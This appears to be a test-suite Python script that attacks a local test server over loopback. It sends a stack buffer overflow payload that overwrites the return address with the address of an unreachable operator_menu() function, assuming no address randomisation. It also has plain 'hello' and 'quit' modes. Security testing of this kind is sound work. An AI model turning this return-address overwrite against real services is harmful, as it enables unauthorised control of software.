#!/usr/bin/python3
"""Attacks tests/attacks/server over loopback.

    attack.py PORT_FILE SERVER [--hello | --quit]

The exploit is made for one layout, that of a program without address space
randomisation: it puts the address of operator_menu(), which no request can
reach, over the return address. --hello is what an honest client sends.
Prints what came back.
"""
import os
import socket
import struct
import subprocess
import sys
import time

PIE_BASE = 0x555555554000  # where Linux x86-64 puts such a program without randomisation


def port_of(path):
    for _ in range(600):
        try:
            with open(path, encoding='ascii') as file:
                text = file.read()
            if text.endswith('\n'):
                return int(text)
        except FileNotFoundError:
            pass
        time.sleep(0.05)
    sys.exit('attack.py: the server did not come up')


def symbol_address(program, name):
    listing = subprocess.run(['nm', program], capture_output=True, text=True, check=True).stdout
    for line in listing.splitlines():
        if line.split()[-1] == name:
            return PIE_BASE + int(line.split()[0], 16)
    sys.exit(f'attack.py: no {name} in {program}')


def exploit(program):
    target = struct.pack('<Q', symbol_address(program, 'operator_menu'))
    # 64 bytes of buffer, then what the compiler keeps there, then the return address: all of it the target.
    return b'NOTICE ' + b'A' * 57 + target * 8


def main():
    port_file, program = sys.argv[1:3]
    if '--hello' in sys.argv:
        data = b'NOTICE'
    elif '--quit' in sys.argv:
        data = b'QUIT'
    else:
        data = exploit(program)
    with socket.create_connection(('127.0.0.1', port_of(port_file))) as server:
        server.sendall(data)
        server.shutdown(socket.SHUT_WR)
        answer = b''
        try:
            while True:
                part = server.recv(4096)
                if not part:
                    break
                answer += part
        except ConnectionResetError:
            pass
    sys.stdout.buffer.write(answer)
    return 0


if __name__ == '__main__':
    sys.exit(main())
